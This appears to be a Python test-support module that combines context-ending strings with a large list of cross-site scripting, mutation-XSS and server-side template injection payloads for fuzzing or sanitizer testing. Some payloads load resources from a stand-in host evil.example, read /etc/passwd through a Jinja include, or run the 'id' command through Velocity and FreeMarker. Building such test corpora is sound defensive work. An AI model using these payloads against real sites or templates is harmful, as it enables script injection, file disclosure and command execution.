"""Strings that have broken sites: what ends the context they stand in, followed by what acts once it is ended."""

from __future__ import annotations

import json
import os
from itertools import product
from pathlib import Path

# What ends text, attributes, comments, elements, JSON, scripts and styles.
ENDINGS = """\
|"|'|`|">|'>|-->|--!>|]]>|</title>|</script>|</style>|</textarea>|</noscript>|</p></article></main>|*/|\\|\\"|\\">|&quot;>|&#34;>\
|%22%3E|"}]}</script>|' x='|" x="|<!--|<svg>|<math><mtext>""".split("|")

# What acts, or asks another host, where it becomes markup, a style, a template or code.
ACTIONS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b onmouseover=alert(1)>hover</b>",
    "<b onclick=alert(1)>click</b>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<a href=javascript:alert(1)>go</a>",
    "<a href='java\tscript:alert(1)'>go</a>",
    "<a href=&#106;avascript:alert(1)>go</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<img src=//evil.example/i.png>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/s.css';</style>",
    "<p style=\"background:url('//evil.example/b')\">x</p>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    # Markup that changes its meaning when it is parsed, written and parsed again.
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    # Templates of Jinja, Handlebars, ERB, Twig, Go, Velocity, Angular, Vue, FreeMarker and JavaScript.
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}{{ 7*7 }}",
    "{{{ alert(1) }}}{{#with 1}}{{lookup this 'constructor'}}{{/with}}",
    "<%= `id` %><% alert(1) %>",
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}",
    '{{ printf "%s" .Env }}{{ template "x" . }}',
    "#set($x=1)#foreach($i in [1..9])$x.class.forName('java.lang.Runtime')#end",
    "{{ constructor.constructor('alert(1)')() }}",
    "<i v-html=\"'<img src=x onerror=alert(1)>'\"></i>${alert(1)}",
    '<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}',
    ";alert(1)//",
    "+alert(1)+",
    "[go](javascript:alert(1)) ![x](//evil.example/m.png) <javascript:alert(1)>",
)

# What is shown otherwise than it is written, or not at all, and what breaks readers of XML and JSON.
LETTERS = tuple(
    f"sign {sign} and {sign}{sign} <b>x</b>"
    for sign in "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9b\u200b\u200e\u200f\u2028\u2029\u202a\u202d\u202e\u2066\u2067"
    "\u2069\ufeff\ufdd0\ufffe\uffff\U0001f4a9\u0301\u0430\uff1c\u003c\u0026\u0022"
)


def list_strings() -> list[str]:
    """Give all strings; `HOSTILE_STRINGS` may name a folder of further ones, as lists in JSON."""
    own = [ending + action for action, ending in product(ACTIONS, ENDINGS)] + list(LETTERS)
    folder = os.environ.get("HOSTILE_STRINGS", "")
    more = [json.loads(path.read_text("utf-8")) for path in sorted(Path(folder).glob("*.json"))] if folder else []
    return own + [text for listed in more for text in listed if text.strip()]
